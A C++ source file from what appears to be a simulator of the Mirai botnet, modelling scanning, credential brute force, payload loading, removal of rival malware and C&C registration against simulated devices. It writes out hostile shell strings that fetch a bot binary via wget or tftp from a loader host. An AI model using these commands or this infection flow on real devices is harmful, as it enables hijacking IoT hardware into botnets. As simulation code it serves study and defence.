#include "miraisim/mirai.hpp"

#include <algorithm>
#include <sstream>

namespace miraisim::mirai {

const char* to_string(InstallMethod m) {
    return m == InstallMethod::Wget ? "wget" : "tftp";
}

CncServer::CncServer() {
    // Vector registry only; the panel lists these, nothing executes them.
    attack_vectors_ = {"udp", "vse", "dns", "syn", "ack", "stomp", "greip", "greeth", "http"};
}

Result<int, CncError> CncServer::register_bot(BotRecord record) {
    if (has_bot(record.addr)) {
        return bot_count();
    }
    if (infection_probe_ && !infection_probe_(record.addr)) {
        return CncError::StaleRegistration;
    }
    record.bot_id = bot_count() + 1;
    bots_.push_back(std::move(record));
    return bot_count();
}

bool CncServer::has_bot(netsim::SimAddress addr) const {
    return std::any_of(bots_.begin(), bots_.end(),
                       [&](const BotRecord& b) { return b.addr == addr; });
}

std::string CncServer::panel(const std::string& line) const {
    std::istringstream in(line);
    std::string cmd;
    in >> cmd;
    std::ostringstream out;
    if (cmd == "status") {
        for (const BotRecord& b : bots_) {
            out << "bot " << b.bot_id << " " << b.addr.str() << " t=" << b.infected_at_ms
                << "ms login=" << b.login_used.username << ":" << b.login_used.password
                << " via=" << to_string(b.install_method) << "\n";
        }
        out << "bots: " << bot_count() << "\n";
        return out.str();
    }
    if (cmd == "vectors") {
        for (const std::string& v : attack_vectors_) {
            out << v << "\n";
        }
        return out.str();
    }
    if (cmd == "help" || cmd.empty()) {
        return "commands: status | vectors | help\n";
    }
    return "unknown command '" + cmd + "'\ncommands: status | vectors | help\n";
}

void CncServer::reset() {
    bots_.clear();
}

Attacker::Attacker(netsim::Network& net, CncServer& cnc, const device::DeviceMap& devices,
                   Config config)
    : net_(net), cnc_(cnc), devices_(devices), config_(std::move(config)), rng_(config_.seed) {
    cnc_.set_infection_probe([&map = devices_](netsim::SimAddress addr) {
        auto it = map.find(addr);
        return it != map.end() && it->second->infected();
    });
}

device::DeviceState* Attacker::device_at(netsim::SimAddress addr) {
    auto it = devices_.find(addr);
    return it == devices_.end() ? nullptr : it->second;
}

std::vector<ScanCandidate> Attacker::syn_scan(const ScanConfig& config) {
    std::vector<ScanCandidate> candidates;
    for (const netsim::AddressRange& range : config.ranges) {
        for (std::uint64_t v = range.first.value(); v <= range.last.value(); ++v) {
            const netsim::SimAddress addr{static_cast<std::uint32_t>(v)};
            if (config.excluded(addr)) {
                continue;
            }
            for (std::uint16_t port : config.target_ports) {
                if (net_.probe(config_.scanner_addr, addr, port) == netsim::ProbeResult::Open) {
                    candidates.push_back({addr, port});
                }
            }
        }
    }
    return candidates;
}

BruteForceResult Attacker::brute_force(netsim::SimAddress addr, std::uint16_t port,
                                       const CredentialList& list, int attempt_cap,
                                       std::optional<std::int64_t> deadline_ms) {
    device::DeviceState* dev = device_at(addr);
    if (!dev) {
        return {std::nullopt, 0};
    }
    auto channel = net_.connect(config_.scanner_addr, addr, port);
    if (!channel.ok()) {
        return {std::nullopt, 0};
    }
    const std::int64_t attempt_cost = net_.latency().login_attempt_ms;
    int attempts = 0;
    for (const CredentialEntry& entry : list) {
        if (attempts >= attempt_cap) {
            break;
        }
        if (deadline_ms && net_.clock().now() + attempt_cost > *deadline_ms) {
            break;
        }
        auto outcome = dev->attempt_login(port, entry);
        if (outcome.status == device::LoginStatus::NoAuthExchange ||
            outcome.status == device::LoginStatus::NoSuchService) {
            return {std::nullopt, 0};
        }
        ++attempts;
        if (outcome.status == device::LoginStatus::Success) {
            return {BruteForceSuccess{*outcome.session, entry, attempts}, attempts};
        }
    }
    return {std::nullopt, attempts};
}

Result<InfectionResult, LoadError> Attacker::load_payload(const device::Session& session,
                                                          netsim::SimAddress loader_addr) {
    device::DeviceState* dev = device_at(session.device);
    if (!dev || !session.shell) {
        return LoadError::ShellUnavailable;
    }

    std::optional<InstallMethod> method;
    auto wget = dev->shell_exec(session, "wget http://" + loader_addr.str() + "/bins/mirai.bot");
    if (wget.ok()) {
        method = InstallMethod::Wget;
    } else if (wget.error().kind == device::ShellErrorKind::ShellDenied) {
        return LoadError::ShellUnavailable;
    } else {
        auto tftp = dev->shell_exec(session, "tftp " + loader_addr.str() + " mirai.bot");
        if (tftp.ok()) {
            method = InstallMethod::Tftp;
        }
    }
    if (!method) {
        return LoadError::LoadFailed;
    }

    auto pid = dev->spawn_process(session, kBotExecPath, device::ProcessOrigin::MiraiBot);
    if (!pid.ok()) {
        return LoadError::LoadFailed;
    }

    BotStatus status = bot_start(*dev);
    if (status.running) {
        BotRecord record;
        record.addr = session.device;
        record.infected_at_ms = dev->infection_time().value_or(net_.clock().now());
        record.login_used = {session.username, session.password};
        record.install_method = *method;
        auto cnc_channel = net_.connect(session.device, config_.cnc_addr, kCncReportPort);
        if (cnc_channel.ok()) {
            // The C&C rejects the registration as stale when the device is
            // not actually infected (a wrapper-sandboxed bot, for one).
            cnc_.register_bot(record);
        }
    }
    return InfectionResult{*method, pid.value()};
}

void Attacker::scrape_competitors(device::DeviceState& dev,
                                  std::vector<device::ProcessEntry>& killed) {
    auto is_competitor = [](const device::ProcessEntry& p) {
        return p.origin == device::ProcessOrigin::Qbot ||
               p.origin == device::ProcessOrigin::UpxPacked ||
               p.origin == device::ProcessOrigin::Zollard;
    };
    // Snapshot first; malware_kill mutates the table.
    std::vector<device::ProcessEntry> victims;
    for (const auto& p : dev.malware_processes()) {
        if (is_competitor(p)) victims.push_back(p);
    }
    for (const auto& p : victims) {
        if (dev.malware_kill(p.pid)) killed.push_back(p);
    }
}

void Attacker::kill_anime_kami(device::DeviceState& dev,
                               std::vector<device::ProcessEntry>& killed) {
    // Dedicated routine for the Anime/Kami strain.
    std::vector<device::ProcessEntry> victims;
    for (const auto& p : dev.malware_processes()) {
        if (p.origin == device::ProcessOrigin::AnimeKami) victims.push_back(p);
    }
    for (const auto& p : victims) {
        if (dev.malware_kill(p.pid)) killed.push_back(p);
    }
}

BotStatus Attacker::bot_start(device::DeviceState& dev) {
    BotStatus status;
    const int pid = dev.malware_max_bot_pid();
    if (pid < 0) {
        return status;
    }

    // A second instance that cannot take the lock removes itself, leaving
    // exactly one bot. A blocked port has the same effect on the first one.
    if (!dev.malware_bind(kInstanceLockPort, pid)) {
        dev.malware_kill(pid);
        status.running = false;
        return status;
    }
    status.running = true;

    scrape_competitors(dev, status.killed);
    kill_anime_kami(dev, status.killed);

    if (config_.p_game > 0.0) {
        const double draw =
            static_cast<double>(rng_()) / static_cast<double>(std::mt19937_64::max());
        if (config_.p_game >= 1.0 || draw < config_.p_game) {
            auto game = netsim::SimAddress::parse(kGameHostIp);
            auto ch = net_.connect(dev.address(), *game, kGameHostPort);
            if (ch.ok()) {
                status.game_contact = GameContact::Connected;
            } else if (ch.error() == netsim::ConnectError::OutboundBlocked) {
                status.game_contact = GameContact::Blocked;
            } else {
                status.game_contact = GameContact::Refused;
            }
        }
    }
    return status;
}

AttackRecord Attacker::attack(const ScanCandidate& candidate, netsim::SimAddress loader_addr,
                              std::optional<std::int64_t> deadline_ms) {
    AttackRecord record;
    record.addr = candidate.addr;
    record.port = candidate.port;

    const int cap = config_.attempt_cap > 0 ? config_.attempt_cap
                                            : static_cast<int>(config_.credentials.size());
    BruteForceResult brute =
        brute_force(candidate.addr, candidate.port, config_.credentials, cap, deadline_ms);
    record.attempts_used = brute.attempts_used;
    if (!brute.success) {
        attack_log_.push_back(record);
        return record;
    }
    record.login_success = true;

    auto load = load_payload(brute.success->session, loader_addr);
    if (load.ok()) {
        record.install_method = load.value().method;
    }
    device::DeviceState* dev = device_at(candidate.addr);
    record.infected = dev && dev->infected();
    attack_log_.push_back(record);
    return record;
}

}  // namespace miraisim::mirai
